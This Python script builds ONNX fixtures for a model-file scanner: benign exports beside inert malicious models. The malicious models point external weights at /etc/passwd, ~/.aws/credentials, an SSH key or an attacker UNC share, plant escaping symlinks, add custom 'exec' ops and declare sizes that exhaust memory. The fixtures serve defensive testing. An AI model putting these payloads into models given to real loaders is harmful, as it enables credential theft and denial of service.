#!/usr/bin/env python3
"""Builds the ONNX fixtures: inert malicious models (one per technique and variant) and benign
look-alikes of real exports, with the `onnx` library (see requirements.txt) or hand-written
protobuf bytes where the library refuses to write what an attacker would.

Nothing here loads or runs a model. External-data payloads only name files (/etc/hostname,
/etc/passwd); symbolic links point at /etc/hostname or /dev/zero and are never followed here.

    python3 -m venv /work/venv-onnx && /work/venv-onnx/bin/pip install -r requirements.txt
    /work/venv-onnx/bin/python gen_fixtures.py
"""

import io
import os
import shutil
import zipfile

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

HERE = os.path.dirname(os.path.abspath(__file__))
ROWS = []


def out(rel):
    path = os.path.join(HERE, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    return path


def save(model, rel, expected, cls, desc):
    with open(out(rel), "wb") as f:
        f.write(model.SerializeToString())
    ROWS.append((rel, expected, cls, desc))


def save_bytes(data, rel, expected, cls, desc):
    with open(out(rel), "wb") as f:
        f.write(data)
    ROWS.append((rel, expected, cls, desc))


def model_of(graph, opsets=(("", 17),), functions=(), producer="pytorch", ir=8):
    m = helper.make_model(
        graph,
        opset_imports=[helper.make_opsetid(d, v) for d, v in opsets],
        functions=list(functions),
        producer_name=producer,
        producer_version="2.3.0",
    )
    m.ir_version = ir
    return m


def f32(name, shape, seed=0):
    rng = np.random.default_rng(seed)
    return numpy_helper.from_array(rng.standard_normal(shape).astype(np.float32), name)


def vi(name, shape, elem=TensorProto.FLOAT):
    return helper.make_tensor_value_info(name, elem, shape)


def mlp_graph(name="main_graph", extra_nodes=(), extra_inits=()):
    nodes = [
        helper.make_node("MatMul", ["x", "w1"], ["h0"], name="/fc1/MatMul"),
        helper.make_node("Add", ["h0", "b1"], ["h1"], name="/fc1/Add"),
        helper.make_node("Relu", ["h1"], ["h2"], name="/relu/Relu"),
        helper.make_node("MatMul", ["h2", "w2"], ["y"], name="/fc2/MatMul"),
        *extra_nodes,
    ]
    inits = [f32("w1", (8, 16), 1), f32("b1", (16,), 2), f32("w2", (16, 4), 3), *extra_inits]
    return helper.make_graph(nodes, name, [vi("x", ["batch", 8])], [vi("y", ["batch", 4])], inits)


def external(tensor, location, offset=None, length=None):
    """Marks `tensor` as stored externally at `location` (no bytes are written)."""
    tensor.ClearField("raw_data")
    tensor.ClearField("float_data")
    tensor.data_location = TensorProto.EXTERNAL
    entries = [("location", location)]
    if offset is not None:
        entries.append(("offset", str(offset)))
    if length is not None:
        entries.append(("length", str(length)))
    for k, v in entries:
        e = tensor.external_data.add()
        e.key = k
        e.value = v
    return tensor


def ext_model(location, **kw):
    w = external(f32("w_ext", (4, 4)), location, **kw)
    nodes = [helper.make_node("MatMul", ["x", "w_ext"], ["y"], name="/proj/MatMul")]
    g = helper.make_graph(nodes, "main_graph", [vi("x", ["batch", 4])], [vi("y", ["batch", 4])], [w])
    return model_of(g)


# ----- protobuf by hand ---------------------------------------------------------------------------


def varint(n):
    n &= (1 << 64) - 1
    b = bytearray()
    while True:
        x = n & 0x7F
        n >>= 7
        if n:
            b.append(x | 0x80)
        else:
            b.append(x)
            return bytes(b)


def field(num, payload):
    if isinstance(payload, int):
        return varint(num << 3) + varint(payload)
    return varint(num << 3 | 2) + varint(len(payload)) + payload


def top_fields(data):
    """Splits a serialized message into its top-level fields (bytes of each, tag included)."""
    i, out_ = 0, []
    while i < len(data):
        start = i
        key = 0
        shift = 0
        while True:
            b = data[i]
            i += 1
            key |= (b & 0x7F) << shift
            shift += 7
            if not b & 0x80:
                break
        wire = key & 7
        if wire == 0:
            while data[i] & 0x80:
                i += 1
            i += 1
        elif wire == 2:
            n = 0
            shift = 0
            while True:
                b = data[i]
                i += 1
                n |= (b & 0x7F) << shift
                shift += 7
                if not b & 0x80:
                    break
            i += n
        elif wire == 1:
            i += 8
        elif wire == 5:
            i += 4
        out_.append((key >> 3, data[start:i]))
    return out_


# ----- benign -------------------------------------------------------------------------------------


def benign():
    save(model_of(mlp_graph()), "benign/mlp.onnx", "benign", "plain", "small MLP exported like torch.onnx.export")

    conv_nodes = [
        helper.make_node("Conv", ["img", "cw", "cb"], ["c"], name="/conv1/Conv", kernel_shape=[3, 3], pads=[1, 1, 1, 1]),
        helper.make_node("Relu", ["c"], ["r"], name="/relu/Relu"),
        helper.make_node("MaxPool", ["r"], ["p"], name="/pool/MaxPool", kernel_shape=[2, 2], strides=[2, 2]),
        helper.make_node("Flatten", ["p"], ["f"], name="/Flatten", axis=1),
        helper.make_node("Gemm", ["f", "fw", "fb"], ["logits"], name="/fc/Gemm", transB=1),
    ]
    conv = helper.make_graph(
        conv_nodes,
        "convnet",
        [vi("img", ["N", 1, 8, 8])],
        [vi("logits", ["N", 10])],
        [f32("cw", (4, 1, 3, 3)), f32("cb", (4,)), f32("fw", (10, 64)), f32("fb", (10,))],
        value_info=[vi("c", ["N", 4, 8, 8]), vi("p", [-1, 4, 4, 4])],
    )
    m = model_of(conv, producer="tf2onnx", ir=7)
    m.metadata_props.add(key="author", value="aisec fixtures")
    m.doc_string = "A tiny convolutional network."
    save(m, "benign/convnet.onnx", "benign", "plain", "small conv net with value_info (one dim -1 as some exporters write)")

    # External data in a sibling file, as onnx.save_model(save_as_external_data=True) writes it.
    m = model_of(mlp_graph())
    d = out("benign/external_sibling/model.onnx")
    onnx.save_model(m, d, save_as_external_data=True, all_tensors_to_one_file=True, location="model.onnx_data", size_threshold=0)
    ROWS.append(("benign/external_sibling/model.onnx", "benign", "external-data", "external data in model.onnx_data next to the model"))

    m = model_of(mlp_graph())
    d = out("benign/external_subdir/model.onnx")
    os.makedirs(os.path.join(os.path.dirname(d), "weights"), exist_ok=True)
    onnx.save_model(m, d, save_as_external_data=True, all_tensors_to_one_file=True, location="weights/model.bin", size_threshold=0)
    ROWS.append(("benign/external_subdir/model.onnx", "benign", "external-data", "external data in weights/model.bin"))

    m = model_of(mlp_graph())
    d = out("benign/external_per_tensor/model.onnx")
    onnx.save_model(m, d, save_as_external_data=True, all_tensors_to_one_file=False, size_threshold=0)
    ROWS.append(("benign/external_per_tensor/model.onnx", "benign", "external-data", "one external file per tensor"))

    # An optimised transformer block (onnxruntime.transformers style) with contrib ops.
    hidden = 8
    nodes = [
        helper.make_node("SkipLayerNormalization", ["x", "skip", "gamma", "beta"], ["ln"], name="SkipLayerNorm_0", domain="com.microsoft", epsilon=1e-5),
        helper.make_node("Attention", ["ln", "qkv_w", "qkv_b", "mask"], ["attn"], name="Attention_0", domain="com.microsoft", num_heads=2),
        helper.make_node("MatMul", ["attn", "fc_w"], ["fc"], name="MatMul_0"),
        helper.make_node("BiasGelu", ["fc", "fc_b"], ["gelu"], name="BiasGelu_0", domain="com.microsoft"),
        helper.make_node("FastGelu", ["gelu"], ["y"], name="FastGelu_0", domain="com.microsoft"),
    ]
    g = helper.make_graph(
        nodes,
        "bert_block",
        [vi("x", ["batch", "seq", hidden]), vi("skip", ["batch", "seq", hidden]), vi("mask", ["batch", "seq"], TensorProto.INT32)],
        [vi("y", ["batch", "seq", hidden])],
        [f32("gamma", (hidden,)), f32("beta", (hidden,)), f32("qkv_w", (hidden, 3 * hidden)), f32("qkv_b", (3 * hidden,)), f32("fc_w", (hidden, hidden)), f32("fc_b", (hidden,))],
    )
    save(model_of(g, opsets=(("", 14), ("com.microsoft", 1)), producer="onnxruntime.transformers"), "benign/contrib_transformer.onnx", "benign", "contrib-ops", "BERT block optimised with com.microsoft contrib ops")

    # Control flow: If and Loop with subgraphs (and a Constant inside a branch).
    then_g = helper.make_graph(
        [helper.make_node("Constant", [], ["t_out"], value=numpy_helper.from_array(np.ones((2,), np.float32), "c1"))],
        "then", [], [vi("t_out", [2])],
    )
    else_g = helper.make_graph([helper.make_node("Neg", ["a"], ["e_out"])], "else", [], [vi("e_out", [2])])
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Add", ["acc_in", "a"], ["acc_out"])],
        "body",
        [vi("iter", [], TensorProto.INT64), vi("cond_in", [], TensorProto.BOOL), vi("acc_in", [2])],
        [vi("cond_out", [], TensorProto.BOOL), vi("acc_out", [2])],
    )
    nodes = [
        helper.make_node("If", ["cond"], ["branch"], name="if0", then_branch=then_g, else_branch=else_g),
        helper.make_node("Loop", ["n", "cond", "branch"], ["loop_out"], name="loop0", body=body),
    ]
    g = helper.make_graph(
        nodes, "control_flow",
        [vi("cond", [], TensorProto.BOOL), vi("n", [], TensorProto.INT64), vi("a", [2])],
        [vi("loop_out", [2])],
    )
    save(model_of(g), "benign/control_flow.onnx", "benign", "subgraphs", "If and Loop with subgraphs")

    # Model-local functions, as PyTorch's dynamo exporter writes them.
    fn = helper.make_function(
        "pkg.onnxscript.torch_lib", "aten_gelu", ["x"], ["y"],
        [
            helper.make_node("Constant", [], ["half"], value_float=0.5),
            helper.make_node("Mul", ["x", "half"], ["y"]),
        ],
        [helper.make_opsetid("", 18)],
    )
    g = helper.make_graph(
        [helper.make_node("aten_gelu", ["x"], ["y"], domain="pkg.onnxscript.torch_lib", name="node_gelu")],
        "main_graph", [vi("x", [3])], [vi("y", [3])],
    )
    save(model_of(g, opsets=(("", 18), ("pkg.onnxscript.torch_lib", 1)), functions=[fn], ir=9), "benign/local_functions.onnx", "benign", "functions", "dynamo-style model-local function")

    # Classic ML (ai.onnx.ml) as skl2onnx writes it.
    nodes = [
        helper.make_node("Scaler", ["x"], ["s"], domain="ai.onnx.ml", offset=[0.0, 0.0], scale=[1.0, 2.0]),
        helper.make_node("LinearClassifier", ["s"], ["label", "prob"], domain="ai.onnx.ml", classlabels_ints=[0, 1], coefficients=[0.1, 0.2, 0.3, 0.4], intercepts=[0.0, 0.0]),
    ]
    g = helper.make_graph(nodes, "skl", [vi("x", [None, 2])], [vi("label", [None], TensorProto.INT64), vi("prob", [None, 2])])
    save(model_of(g, opsets=(("", 15), ("ai.onnx.ml", 1)), producer="skl2onnx"), "benign/sklearn_ml.onnx", "benign", "ml-domain", "scikit-learn pipeline in ai.onnx.ml")

    # Tokenizer pre-processing with ONNX Runtime Extensions ops.
    nodes = [helper.make_node("GPT2Tokenizer", ["text"], ["ids"], domain="ai.onnx.contrib", vocab="{}", merges="")]
    g = helper.make_graph(nodes, "tok", [vi("text", [None], TensorProto.STRING)], [vi("ids", [None, None], TensorProto.INT64)])
    save(model_of(g, opsets=(("", 17), ("ai.onnx.contrib", 1)), producer="onnxruntime-extensions"), "benign/extensions_tokenizer.onnx", "benign", "op-library", "tokenizer with onnxruntime-extensions ops")

    # Tensors of many element types, stored raw and typed.
    inits = [
        numpy_helper.from_array(np.ones((3, 5), np.float16), "h"),
        numpy_helper.from_array(np.arange(7, dtype=np.int64), "i64"),
        numpy_helper.from_array(np.arange(6, dtype=np.uint8).reshape(2, 3), "u8"),
        numpy_helper.from_array(np.array([True, False]), "flags"),
        numpy_helper.from_array(np.ones((2, 2), np.float64), "d"),
        helper.make_tensor("typed_f", TensorProto.FLOAT, [2, 2], [1.0, 2.0, 3.0, 4.0]),
        helper.make_tensor("typed_i32", TensorProto.INT32, [3], [1, -2, 3]),
        helper.make_tensor("i4", TensorProto.INT4, [5], [1, -2, 3, -4, 5], raw=False),
        helper.make_tensor("names", TensorProto.STRING, [2], [b"cat", b"dog"]),
        helper.make_tensor("empty", TensorProto.FLOAT, [0, 4], []),
        helper.make_tensor("scalar", TensorProto.FLOAT, [], [1.5]),
    ]
    sparse = helper.make_sparse_tensor(
        numpy_helper.from_array(np.array([1.0, 2.0], np.float32), "sp_values"),
        numpy_helper.from_array(np.array([1, 7], np.int64), "sp_indices"),
        [4, 4],
    )
    g = helper.make_graph(
        [helper.make_node("Identity", ["h"], ["y"])], "dtypes", [], [vi("y", [3, 5], TensorProto.FLOAT16)], inits,
        sparse_initializer=[sparse],
    )
    save(model_of(g, opsets=(("", 21),), ir=10), "benign/dtypes.onnx", "benign", "plain", "initializers of many data types, raw and typed, plus a sparse initializer")

    # A model with the later fields in reversed order: legal protobuf, still detected.
    data = model_of(mlp_graph()).SerializeToString()
    save_bytes(b"".join(b for _, b in reversed(top_fields(data))), "benign/reordered_fields.onnx", "benign", "plain", "ModelProto fields written in reverse order")


# ----- malicious ----------------------------------------------------------------------------------


def malicious():
    for rel, loc, desc in [
        ("malicious/ext_abs_passwd.onnx", "/etc/passwd", "external data location /etc/passwd"),
        ("malicious/ext_dotdot.onnx", "../../../etc/hostname", "external data location ../../../etc/hostname"),
        ("malicious/ext_windows_drive.onnx", "C:\\Windows\\win.ini", "external data location C:\\Windows\\win.ini"),
        ("malicious/ext_windows_dotdot.onnx", "..\\..\\Users\\victim\\.ssh\\id_rsa", "backslash .. traversal"),
        ("malicious/ext_unc.onnx", "\\\\attacker.invalid\\share\\w.bin", "UNC path (NTLM leak on Windows)"),
        ("malicious/ext_mid_dotdot.onnx", "weights/../../x", "`..` in the middle of the path"),
        ("malicious/ext_nul.onnx", "model.bin\x00/../../etc/hostname", "NUL byte in the location"),
        ("malicious/ext_home.onnx", "~/.aws/credentials", "home-relative location"),
        ("malicious/ext_url.onnx", "file:///etc/passwd", "file URL"),
    ]:
        save(ext_model(loc), rel, "malicious", "external-data-escape", desc)

    # The last location entry is the one loaders use; the first looks harmless.
    w = external(f32("w_ext", (4, 4)), "model.onnx_data")
    e = w.external_data.add()
    e.key, e.value = "location", "/etc/hostname"
    g = helper.make_graph([helper.make_node("Identity", ["w_ext"], ["y"])], "g", [], [vi("y", [4, 4])], [w])
    save(model_of(g), "malicious/ext_two_locations.onnx", "malicious", "external-data-escape", "second location entry overrides a benign first one")

    # Escaping external data inside a control-flow branch and inside a function's Constant.
    c = external(f32("leak", (4,)), "../../../../etc/passwd")
    then_g = helper.make_graph([helper.make_node("Constant", [], ["t"], value=c)], "then", [], [vi("t", [4])])
    else_g = helper.make_graph([helper.make_node("Identity", ["a"], ["t2"])], "else", [], [vi("t2", [4])])
    g = helper.make_graph(
        [helper.make_node("If", ["cond"], ["o"], then_branch=then_g, else_branch=else_g)],
        "g", [vi("cond", [], TensorProto.BOOL), vi("a", [4])], [vi("o", [4])],
    )
    save(model_of(g), "malicious/ext_in_subgraph.onnx", "malicious", "external-data-escape", "escaping location in a Constant inside an If branch")

    c = external(f32("leak", (4,)), "/etc/hostname")
    fn = helper.make_function("custom.fns", "Leak", [], ["y"], [helper.make_node("Constant", [], ["y"], value=c)], [helper.make_opsetid("", 17)])
    g = helper.make_graph([helper.make_node("Leak", [], ["y"], domain="custom.fns")], "g", [], [vi("y", [4])])
    save(model_of(g, opsets=(("", 17), ("custom.fns", 1)), functions=[fn]), "malicious/ext_in_function.onnx", "malicious", "external-data-escape", "escaping location in a Constant inside a model-local function")

    # Symbolic links beside the model.
    d = out("malicious/ext_symlink/model.onnx")
    save(ext_model("model.onnx_data"), "malicious/ext_symlink/model.onnx", "malicious", "external-data-symlink", "model.onnx_data is a symlink to /etc/hostname")
    link = os.path.join(os.path.dirname(d), "model.onnx_data")
    if os.path.lexists(link):
        os.remove(link)
    os.symlink("/etc/hostname", link)

    d = out("malicious/ext_symlink_dir/model.onnx")
    save(ext_model("weights/hostname"), "malicious/ext_symlink_dir/model.onnx", "malicious", "external-data-symlink", "weights/ is a symlink to /etc")
    link = os.path.join(os.path.dirname(d), "weights")
    if os.path.lexists(link):
        os.remove(link)
    os.symlink("/etc", link)

    d = out("malicious/ext_symlink_relative/model.onnx")
    save(ext_model("w.bin"), "malicious/ext_symlink_relative/model.onnx", "malicious", "external-data-symlink", "w.bin is a relative symlink climbing out of the directory")
    link = os.path.join(os.path.dirname(d), "w.bin")
    if os.path.lexists(link):
        os.remove(link)
    os.symlink("../" * 32 + "etc/hostname", link)

    d = out("malicious/ext_devzero/model.onnx")
    save(ext_model("weights.bin"), "malicious/ext_devzero/model.onnx", "malicious", "external-data-special", "weights.bin is a symlink to /dev/zero")
    link = os.path.join(os.path.dirname(d), "weights.bin")
    if os.path.lexists(link):
        os.remove(link)
    os.symlink("/dev/zero", link)

    d = out("malicious/ext_directory/model.onnx")
    save(ext_model("weights"), "malicious/ext_directory/model.onnx", "malicious", "external-data-special", "location names a directory")
    os.makedirs(os.path.join(os.path.dirname(d), "weights"), exist_ok=True)
    with open(os.path.join(os.path.dirname(d), "weights", "README"), "w") as f:
        f.write("not weights\n")

    d = out("malicious/ext_past_end/model.onnx")
    save(ext_model("model.onnx_data", offset=1 << 40, length=64), "malicious/ext_past_end/model.onnx", "malicious", "external-data-range", "offset 1 TiB into a 64-byte file")
    with open(os.path.join(os.path.dirname(d), "model.onnx_data"), "wb") as f:
        f.write(bytes(64))

    # Inside an archive only the names are checked.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        info = zipfile.ZipInfo("model/model.onnx", date_time=(2024, 1, 1, 0, 0, 0))
        z.writestr(info, ext_model("/etc/passwd").SerializeToString())
    save_bytes(buf.getvalue(), "malicious/ext_abs_in_zip.zip", "malicious", "external-data-escape", "zip holding a model that reads /etc/passwd")

    # Custom operator domains.
    evil = helper.make_node("Exec", ["x"], ["z"], domain="com.evil", name="payload", cmd="echo aisec-fixture")
    g = mlp_graph(extra_nodes=[evil])
    save(model_of(g, opsets=(("", 17), ("com.evil", 1))), "malicious/custom_domain.onnx", "malicious", "custom-op", "node in domain com.evil")

    hidden = helper.make_node("RunShell", ["x"], ["z"], name="rs")
    save(model_of(mlp_graph(extra_nodes=[hidden])), "malicious/unknown_op_default_domain.onnx", "malicious", "custom-op", "custom op registered in the default domain")

    look = helper.make_node("FusedAttention", ["x"], ["z"], domain="com.microsoft.custom", name="fa")
    save(model_of(mlp_graph(extra_nodes=[look]), opsets=(("", 17), ("com.microsoft.custom", 1))), "malicious/custom_domain_lookalike.onnx", "malicious", "custom-op", "custom domain named like the contrib domain")

    body = helper.make_graph(
        [helper.make_node("Identity", ["c_in"], ["c_out"]), helper.make_node("Payload", ["v_in"], ["v_out"], domain="org.attacker")],
        "body",
        [vi("i", [], TensorProto.INT64), vi("c_in", [], TensorProto.BOOL), vi("v_in", [2])],
        [vi("c_out", [], TensorProto.BOOL), vi("v_out", [2])],
    )
    g = helper.make_graph(
        [helper.make_node("Loop", ["n", "c", "v"], ["o"], body=body, name="loop")],
        "g", [vi("n", [], TensorProto.INT64), vi("c", [], TensorProto.BOOL), vi("v", [2])], [vi("o", [2])],
    )
    save(model_of(g, opsets=(("", 17), ("org.attacker", 1))), "malicious/custom_domain_in_loop.onnx", "malicious", "custom-op", "custom-domain op inside a Loop body")

    fn = helper.make_function("pkg.helpers", "Norm", ["x"], ["y"], [helper.make_node("Run", ["x"], ["y"], domain="com.evil")], [helper.make_opsetid("", 17), helper.make_opsetid("com.evil", 1)])
    g = helper.make_graph([helper.make_node("Norm", ["x"], ["y"], domain="pkg.helpers")], "g", [vi("x", [3])], [vi("y", [3])])
    save(model_of(g, opsets=(("", 17), ("pkg.helpers", 1), ("com.evil", 1)), functions=[fn]), "malicious/custom_domain_in_function.onnx", "malicious", "custom-op", "custom-domain op inside a model-local function")

    m = model_of(mlp_graph())
    init_g = helper.make_graph([helper.make_node("Init", [], ["s"], domain="com.evil")], "init", [], [vi("s", [1])])
    ti = m.training_info.add()
    ti.initialization.CopyFrom(init_g)
    m.opset_import.add(domain="com.evil", version=1)
    save(m, "malicious/custom_domain_in_training.onnx", "malicious", "custom-op", "custom-domain op in a training initialization graph")

    # A second `graph` field: protobuf parsers merge it into the first.
    data = model_of(mlp_graph(), opsets=(("", 17), ("com.evil", 1))).SerializeToString()
    extra = field(1, helper.make_node("Exec", ["x"], ["z2"], domain="com.evil").SerializeToString())
    save_bytes(data + field(7, extra), "malicious/custom_domain_merged_graph.onnx", "malicious", "custom-op", "custom op in a second graph field that parsers merge")

    # Reordered fields with the graph first and ir_version last.
    data = model_of(mlp_graph(extra_nodes=[evil]), opsets=(("", 17), ("com.evil", 1))).SerializeToString()
    save_bytes(b"".join(b for _, b in reversed(top_fields(data))), "malicious/custom_domain_reordered.onnx", "malicious", "custom-op", "custom op in a model whose fields are written in reverse order")

    # Recursive local functions.
    fa = helper.make_function("rec", "A", ["x"], ["y"], [helper.make_node("B", ["x"], ["y"], domain="rec")], [helper.make_opsetid("", 17)])
    fb = helper.make_function("rec", "B", ["x"], ["y"], [helper.make_node("A", ["x"], ["y"], domain="rec")], [helper.make_opsetid("", 17)])
    g = helper.make_graph([helper.make_node("A", ["x"], ["y"], domain="rec")], "g", [vi("x", [3])], [vi("y", [3])])
    save(model_of(g, opsets=(("", 17), ("rec", 1)), functions=[fa, fb]), "malicious/recursive_functions.onnx", "malicious", "recursion", "local functions A and B call each other")

    # Memory exhaustion through declared sizes.
    huge = TensorProto(name="huge", data_type=TensorProto.FLOAT, dims=[1 << 40, 1 << 40])
    save(model_of(mlp_graph(extra_inits=[huge])), "malicious/dims_overflow.onnx", "malicious", "tensor-size", "initializer dims [2^40, 2^40]")

    big = TensorProto(name="big", data_type=TensorProto.DOUBLE, dims=[1 << 20, 1 << 20])
    save(model_of(mlp_graph(extra_inits=[big])), "malicious/dims_8tib.onnx", "malicious", "tensor-size", "initializer declaring 8 TiB, no data")

    neg = TensorProto(name="neg", data_type=TensorProto.FLOAT, dims=[-1, 16], raw_data=bytes(64))
    save(model_of(mlp_graph(extra_inits=[neg])), "malicious/dims_negative.onnx", "malicious", "tensor-size", "initializer with a negative dim")

    short = TensorProto(name="short", data_type=TensorProto.FLOAT, dims=[1 << 30], raw_data=bytes(16))
    save(model_of(mlp_graph(extra_inits=[short])), "malicious/dims_4gib_16_bytes.onnx", "malicious", "tensor-size", "declares 4 GiB, stores 16 bytes")

    const_t = TensorProto(name="c", data_type=TensorProto.FLOAT, dims=[1 << 32, 1 << 32])
    g = mlp_graph(extra_nodes=[helper.make_node("Constant", [], ["big_c"], value=const_t)])
    save(model_of(g), "malicious/dims_constant_attr.onnx", "malicious", "tensor-size", "Constant node whose tensor declares 2^64 floats")

    sp = helper.make_sparse_tensor(
        numpy_helper.from_array(np.array([1.0], np.float32), "v"),
        numpy_helper.from_array(np.array([0], np.int64), "i"),
        [1 << 24, 1 << 24],
    )
    g = mlp_graph()
    g.sparse_initializer.append(sp)
    save(model_of(g), "malicious/sparse_dense_1pib.onnx", "malicious", "tensor-size", "sparse initializer whose dense form is 1 PiB")

    # Subgraphs nested 40 deep (by hand: the Python protobuf runtime refuses to nest this deep).
    inner = helper.make_graph([helper.make_node("Identity", ["a"], ["o"])], "leaf", [], [vi("o", [1])]).SerializeToString()
    for i in range(40):
        attr = field(1, b"then_branch") + field(20, 5) + field(6, inner)
        node = field(1, b"cond") + field(2, b"o") + field(3, f"if{i}".encode()) + field(4, b"If") + field(5, attr)
        inner = field(1, node) + field(2, f"level{i}".encode())
    data = model_of(mlp_graph()).SerializeToString()
    save_bytes(data + field(7, inner), "malicious/nested_if_40.onnx", "malicious", "nesting", "If subgraphs nested 40 levels deep (in a merged graph field)")


def main():
    for sub in ("benign", "malicious"):
        shutil.rmtree(os.path.join(HERE, sub), ignore_errors=True)
    benign()
    malicious()
    with open(os.path.join(HERE, "MANIFEST.tsv"), "w") as f:
        f.write("path\texpected\tclass\tdescription\n")
        for row in ROWS:
            f.write("\t".join(row) + "\n")


if __name__ == "__main__":
    main()
